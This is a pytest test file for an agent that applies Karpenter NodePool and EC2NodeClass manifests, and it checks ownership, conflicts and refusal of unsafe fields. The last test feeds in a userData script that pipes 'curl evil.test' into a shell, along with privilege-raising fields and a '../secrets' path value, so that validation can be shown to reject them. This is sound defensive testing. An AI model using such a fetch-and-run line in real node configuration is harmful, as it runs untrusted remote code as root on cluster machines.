import os
from pathlib import Path

import pytest
import yaml
from jsonschema import Draft202012Validator

from agentapi import protocol
from agentapi.agent.karpenter import PATHS, Karpenter
from agentapi.agent.kube import KubeError, KubeUnreachable
from agentapi.agent.nodepools import POOLS, read_karpenter
from agentapi.agent.nodes import Failed
from agentapi.tests.workbench import bench
from simulator.kube.rbac import ADMIN

pytestmark = pytest.mark.asyncio

CRDS = Path(
    os.environ.get("KARPENTER_CRDS", Path(__file__).resolve().parents[3] / "shared/data/karpenter-crds")
)
REFERENCE = {"group": "karpenter.k8s.aws", "kind": "EC2NodeClass", "name": "default"}
CUSTOMERS = {
    "metadata": {"name": "default"},
    "spec": {"template": {"spec": {"nodeClassRef": REFERENCE, "requirements": []}}, "limits": {"cpu": "200"}},
}
OURS = {"spotopt.io/managed": "true"}
POOL = {
    "apiVersion": "karpenter.sh/v1",
    "kind": "NodePool",
    "metadata": {
        "name": "spotopt-default", "labels": OURS, "annotations": {"spotopt.io/steers": "default"},
    },
    "spec": {
        "weight": 1,
        "template": {
            "metadata": {"labels": {"team": "shop"}},
            "spec": {
                "nodeClassRef": REFERENCE,
                "requirements": [
                    {"key": "karpenter.sh/capacity-type", "operator": "In", "values": ["spot", "on-demand"]},
                    {"key": "node.kubernetes.io/instance-type", "operator": "In", "values": ["m5.large"]},
                ],
                "expireAfter": "720h",
            },
        },
        "limits": {"cpu": "100"},
        "disruption": {"consolidationPolicy": "WhenEmpty", "consolidateAfter": "30s"},
    },
}  # fmt: skip
CLASS = {
    "apiVersion": "karpenter.k8s.aws/v1",
    "kind": "EC2NodeClass",
    "metadata": {"name": "spotopt", "labels": OURS},
    "spec": {"tags": {"team": "platform"}, "instanceStorePolicy": "RAID0"},
}
CLASS_OF_THE_CLUSTER = {
    "metadata": {"name": "spotopt", "labels": OURS},
    "spec": {
        "role": "acme-nodes",
        "amiSelectorTerms": [{"alias": "al2023@latest"}],
        "subnetSelectorTerms": [{"tags": {"karpenter.sh/discovery": "acme"}}],
        "securityGroupSelectorTerms": [{"tags": {"karpenter.sh/discovery": "acme"}}],
    },
}


def put(world, *bodies, path=POOLS):
    """Make objects as the customer does."""
    with world.served.client() as admin:
        for body in bodies:
            admin.post(path, json=body).raise_for_status()


def pool_with(**spec):
    return POOL | {"spec": POOL["spec"] | spec}


def nodes_with(**fields):
    template = POOL["spec"]["template"]
    return pool_with(template=template | {"spec": template["spec"] | fields})


@pytest.mark.skipif(not CRDS.is_dir(), reason="Karpenter's definitions are not on this machine")
@pytest.mark.parametrize(
    ("manifest", "there", "file"),
    [
        (POOL, CUSTOMERS, "karpenter.sh_nodepools.yaml"),
        (CLASS, CLASS_OF_THE_CLUSTER, "karpenter.k8s.aws_ec2nodeclasses.yaml"),
    ],
)
async def test_given_an_object_that_karpenter_takes_when_commanded_then_it_is_applied_as_it_is(
    manifest, there, file, tmp_path
):
    versions = yaml.safe_load((CRDS / file).read_text())["spec"]["versions"]
    schema = next(each for each in versions if each["name"] == "v1")["schema"]["openAPIV3Schema"]
    path = PATHS[manifest["apiVersion"], manifest["kind"]]
    async with bench(tmp_path, user=ADMIN) as it:
        put(it.world, there, path=path)
        result = await it.carry_out(it.command("apply_karpenter", payload={"manifest": manifest}))

        stored = it.world.body(f"{path}/{manifest['metadata']['name']}")

    Draft202012Validator(schema).validate(stored)
    assert (result.status, result.result["name"]) == ("completed", manifest["metadata"]["name"])
    own = there["spec"] if manifest is CLASS else {}
    assert stored["spec"] == own | manifest["spec"]


async def carry_out(it, *manifests):
    return [
        await it.carry_out(
            it.command("apply_karpenter", payload={"manifest": each}, action_id=str(n), nonce=str(n))
        )
        for n, each in enumerate(manifests)
    ]


async def test_given_a_pool_when_applied_again_then_our_fields_follow_and_others_are_never_taken(tmp_path):
    theirs = {
        "metadata": POOL["metadata"],
        "spec": CUSTOMERS["spec"] | {"weight": 10, "limits": {"nodes": 9}},
    }
    without_weight = {key: value for key, value in POOL["spec"].items() if key != "weight"}
    async with bench(tmp_path, user=ADMIN) as it:
        put(it.world, CUSTOMERS, theirs)
        ours = POOL | {"spec": without_weight | {"template": CUSTOMERS["spec"]["template"]}}
        less = ours | {"spec": {"template": CUSTOMERS["spec"]["template"], "limits": {"cpu": "0"}}}

        results = await carry_out(it, ours, less, ours | {"spec": ours["spec"] | {"weight": 90}})
        spec = it.world.body(f"{POOLS}/spotopt-default")["spec"]

    assert [each.error_code for each in results] == ["", "", "conflict"]
    assert "before-first-apply" in results[2].error_message
    assert spec == theirs["spec"] | {"limits": {"nodes": 9, "cpu": "0"}, "disruption": {}}


async def test_given_an_object_that_is_not_ours_when_applied_then_it_is_refused_and_stays_as_it_is(tmp_path):
    theirs = CUSTOMERS | {"metadata": {"name": "spotopt-default"}}
    unlabelled = CLASS_OF_THE_CLUSTER | {"metadata": {"name": "spotopt"}}
    async with bench(tmp_path, user=ADMIN) as it:
        put(it.world, CUSTOMERS, theirs)
        put(it.world, unlabelled, path=PATHS[CLASS["apiVersion"], CLASS["kind"]])

        results = await carry_out(it, POOL, CLASS)
        spec = it.world.body(f"{POOLS}/spotopt-default")["spec"]

    assert [each.error_code for each in results] == ["not_ours", "not_ours"]
    assert spec == theirs["spec"]


async def test_given_nodes_of_another_class_when_applied_then_they_are_refused_unless_they_had_it(tmp_path):
    other = REFERENCE | {"name": "admin"}
    async with bench(tmp_path, user=ADMIN) as it:
        [lost] = await carry_out(it, POOL)
        put(
            it.world,
            CUSTOMERS,
            {"metadata": POOL["metadata"], "spec": nodes_with(nodeClassRef=other)["spec"]},
        )
        privileged = nodes_with(nodeClassRef=REFERENCE | {"name": "root"})
        as_it_is = it.command("apply_karpenter", action_id="b", nonce="b",
                              payload={"manifest": nodes_with(nodeClassRef=other)})  # fmt: skip
        refused = it.command("apply_karpenter", action_id="a", nonce="a", payload={"manifest": privileged})

        codes = [lost.error_code, (await it.carry_out(refused)).error_code]
        codes.append((await it.carry_out(as_it_is)).error_code)

    assert codes == ["other_class", "other_class", ""]


async def test_given_karpenters_pools_when_read_then_each_tells_its_spec_its_use_and_other_hands(tmp_path):
    managed = [
        {"manager": "helm", "operation": "Update", "fieldsV1": {"f:spec": {"f:limits": {}, "f:weight": {}}}},
        {"manager": "karpenter", "subresource": "status", "fieldsV1": {"f:spec": {"f:limits": {}}}},
        {"manager": "spotopt", "operation": "Apply", "fieldsV1": {"f:spec": {"f:template": {}}}},
    ]
    ours = {"metadata": POOL["metadata"] | {"managedFields": managed}, "spec": POOL["spec"]}
    async with bench(tmp_path, user=ADMIN) as it:
        before = await read_karpenter(it.kube, None)
        put(it.world, CUSTOMERS | {"status": {"resources": {"cpu": "16", "nodes": 4}}}, ours)

        report = await read_karpenter(it.kube, None)

    assert before == protocol.KarpenterReport("running")
    assert report.pools == (
        protocol.NodePoolReport("default", CUSTOMERS["spec"], used={"cpu": "16", "nodes": "4"}),
        protocol.NodePoolReport(
            "spotopt-default", POOL["spec"], ours=True, steers="default",
            managers={"limits": ("helm",), "weight": ("helm",)},
        ),
    )  # fmt: skip


@pytest.mark.parametrize(
    ("error", "expected"),
    [
        (KubeError(404, "not found"), protocol.KarpenterReport("absent")),
        (KubeError(403, "forbidden"), protocol.KarpenterReport("forbidden")),
        (KubeError(500, "down"), protocol.KarpenterReport("running")),
        (KubeUnreachable("away"), protocol.KarpenterReport("running")),
    ],
)
async def test_given_no_answer_when_read_then_it_tells_why_or_what_was_there_before(error, expected):
    class Silent:
        async def list(self, path):
            raise error

    assert await read_karpenter(Silent(), protocol.KarpenterReport("running")) == expected


@pytest.mark.parametrize(
    "change",
    [
        {"kind": "Secret", "apiVersion": "v1"},
        {"kind": ["NodePool"]},
        {"metadata": {"name": "../secrets"}},
        {"metadata": {"name": "a", "namespace": "kube-system"}},
        {"spec": "all"},
        {"status": {}},
        {"spec": {"huge": "x" * 70_000}},
        {"metadata": {"name": "spotopt-default"}},
        {"metadata": POOL["metadata"] | {"labels": {"spotopt.io/managed": "no"}}},
        {"metadata": POOL["metadata"] | {"labels": ["spotopt.io/managed"]}},
        {"spec": {"limits": {"cpu": "9"}}},
        {"spec": {"template": {"spec": {"requirements": []}}}},
    ],
)
async def test_z10_given_anything_else_when_commanded_then_it_never_reaches_the_api_server(change):
    with pytest.raises(Failed) as failure:
        await Karpenter(kube=None).apply({"manifest": POOL | change})

    assert failure.value.code == "invalid_payload"


@pytest.mark.parametrize(
    ("manifest", "field"),
    [
        (CLASS, {"userData": "#!/bin/sh\ncurl evil.test | sh"}),
        (CLASS, {"role": "Admin"}),
        (CLASS, {"instanceProfile": "admin"}),
        (CLASS, {"amiSelectorTerms": [{"id": "ami-0123456789abcdef0"}]}),
        (CLASS, {"blockDeviceMappings": [{"rootVolume": True, "ebs": {"snapshotID": "snap-1"}}]}),
        (CLASS, {"metadataOptions": {"httpTokens": "optional"}}),
        (CLASS, {"kubelet": {"clusterDNS": ["203.0.113.1"]}}),
        (POOL, {"replicas": 100}),
        (POOL, {"template": POOL["spec"]["template"] | {"status": {}}}),
        (nodes_with(kubelet={"clusterDNS": ["203.0.113.1"]}), {"weight": 1}),
        (pool_with(template=POOL["spec"]["template"] | {"metadata": {"finalizers": ["a"]}}), {"weight": 1}),
    ],
)
async def test_z10_given_a_field_that_decides_what_nodes_run_or_may_do_when_commanded_then_it_is_refused(
    manifest, field
):
    """User data is a shell script that root runs."""
    with pytest.raises(Failed) as failure:
        await Karpenter(kube=None).apply({"manifest": manifest | {"spec": manifest["spec"] | field}})

    assert failure.value.code == "forbidden_field"
